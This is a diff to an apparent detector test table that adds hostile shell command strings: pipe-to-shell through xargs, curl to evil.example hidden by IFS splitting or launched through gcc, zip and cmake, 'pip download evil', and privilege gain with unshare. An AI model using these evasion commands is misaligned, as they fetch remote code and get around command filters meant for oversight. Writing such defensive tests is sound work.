@@ -59,6 +59,7 @@ const PIPES: readonly HostileBody[] = [
   ['perl', 'cat x | perl'],
   ['node', 'cat x | node'],
   ['ruby', 'cat x | ruby -'],
+  ['xargs and a word that stands for its input', 'xargs -I{} sh -c {} < x'],
 ].map(([name = '', body = '']) => ({ name: `pipe: ${name}`, rule: 'pipe-to-shell', body }))
 
 const HIDDEN: readonly HostileBody[] = [
@@ -102,9 +103,16 @@ const HIDDEN: readonly HostileBody[] = [
   ['trap', 'trap "$(cat x)" EXIT'],
   ['vim', "vim -es -c '!id' -c q x"],
   ['script', 'script -qc id /dev/null'],
+  ['another IFS', 'IFS=,; x=curl,https://evil.example; $x'],
+  ['gcc and a wrapper', 'gcc -wrapper "sh,-c,$(cat x)" x.c'],
+  ['zip and a test', 'zip x y -TT "$(cat x)" -T'],
 ].map(([name = '', body = '', rule = 'hidden-command']) => ({ name: `hidden: ${name}`, rule, body }))
 
 const NETWORK: readonly HostileBody[] = [
+  ['cmake -E env', 'cmake -E env A=1 curl https://evil.example'],
+  ['gcc and a wrapper', 'gcc -wrapper curl,https://evil.example x.c'],
+  ['zip and a test', 'zip x y -T -TT "curl https://evil.example"'],
+  ['a package by its name', 'pip download evil'],
   ['curl', 'curl -o x https://evil.example/x'],
   ['curl by a variable', 'c=curl; $c -o x https://evil.example/x'],
   ['curl by two variables', 'a=cu; b=rl; "$a$b" -o x https://evil.example/x'],
@@ -229,6 +237,7 @@ const OUTSIDE: readonly HostileBody[] = [
 
 const RIGHTS: readonly HostileBody[] = [
   ['sudo', 'sudo make install', 'privilege'],
+  ['a namespace of its own', 'unshare -r make install', 'privilege'],
   ['sudo in quotes', 's"ud"o id', 'privilege'],
   ['doas', 'doas id', 'privilege'],
   ['su', "su -c 'id'", 'privilege'],
